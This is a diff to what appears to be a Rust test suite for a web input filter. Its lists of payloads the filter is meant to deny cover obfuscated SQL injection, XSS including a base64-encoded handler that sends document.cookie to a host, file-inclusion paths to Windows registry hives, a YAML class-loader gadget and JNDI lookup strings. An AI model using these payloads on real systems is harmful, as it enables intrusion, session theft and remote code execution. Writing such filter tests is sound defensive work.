@@ -50,7 +50,7 @@ fn assert_denied(values: &[&str]) {
 /// SQL injection: comment and case games, dialect operators, blind and error-based forms, subqueries.
 const SQLI: &[&str] = &[
     // keywords split by invisible format characters; MySQL's DISTINCTROW
-    "' un\u{200b}ion se\u{200b}lect 1\u{200b},2\u{200b},3",
+    "1 un\u{200b}ion all sel\u{200d}ect null,null--",
     r#"1' union distinctrow select 1,2"#,
     r#"0x77616974666f722064656c61792027303a303a3527"#,
     r#"1;DECLARE @c VARCHAR(64);SET @c=0x73656c65637420404076657273696f6e;EXEC(@c)"#,
@@ -161,17 +161,17 @@ const SQLI: &[&str] = &[
 /// Cross-site scripting: handlers, URI schemes behind entities, broken tags, sinks named indirectly.
 const XSS: &[&str] = &[
     // octal string escapes, numeric references padded with zeros
-    r#"('\141\154\145\162\164\50\61\51')()"#,
+    r#"x='\160\162\157\155\160\164\50\67\51'"#,
     r#"prompt&#000000040;1&#000000041;"#,
     // a base64 token of 128 bytes and more, all alphanumeric (a handler
     // that sends the cookie away, with a page's parameters after it)
     r#"PGlucHV0IGF1dG9mb2N1cyBvbmZvY3VzPSdsb2NhdGlvbj1gLy8xMjcuMC4wLjEvYz9gLmNvbmNhdChkb2N1bWVudC5jb29raWUpJz4mcGFnZT0yJnNvcnQ9bmFtZSZx"#,
     // a sink called optionally, or through its own `call` / `apply`
-    r#"alert?.(document?.cookie)"#,
-    r#"confirm.call(null,1)"#,
+    r#"prompt?.(document?.domain)"#,
+    r#"confirm.call(this,7)"#,
     r#"'-alert.apply(null,[1])-'"#,
     // a payload inside a block comment that only decoding shows
-    r#"%2F%2A%20%3Caudio%20src%3D1%20onloadstart%3Dalert(1)%3E%20%2A%2F"#,
+    r#"%2F%2A%20%3Cvideo%20src%3Dx%20onerror%3Dprompt(2)%3E%20%2A%2F"#,
     r#"<b style="x:e\78 pression(alert(1))">"#,
     r#"<i style="background:u\72 l(javascript:alert(1))">"#,
     r#"<p style="w:expr/* */ession(alert(1))">"#,
@@ -250,7 +250,7 @@ const XSS: &[&str] = &[
 const LFI: &[&str] = &[
     // a UNC path to an administrative share, a user's registry hive
     r#"\\127.0.0.1\c$\windows\win.ini"#,
-    r#"C:\Users\Default\NTUSER.DAT"#,
+    r#"C:\Users\bob\NTUSER.DAT"#,
     // one step whose dots or separator only decoding reveals
     r#"/%2e%2e%2f"#,
     r#"..%252fconfig"#,
@@ -357,7 +357,7 @@ const SSRF: &[&str] = &[
 /// and .NET's); OGNL and SpEL; class-loader parameters.
 const JAVA: &[&str] = &[
     // YAML tags that make a loader construct a class
-    r#"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1/"]]]]"#,
+    r#"!!javax.script.ScriptEngineManager [x]"#,
     r#"${jndi:${lower:r}mi://x/a}"#,
     r#"${jndi:ldap://127.0.0.1#.x.example:1389/a}"#,
     r#"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}"#,
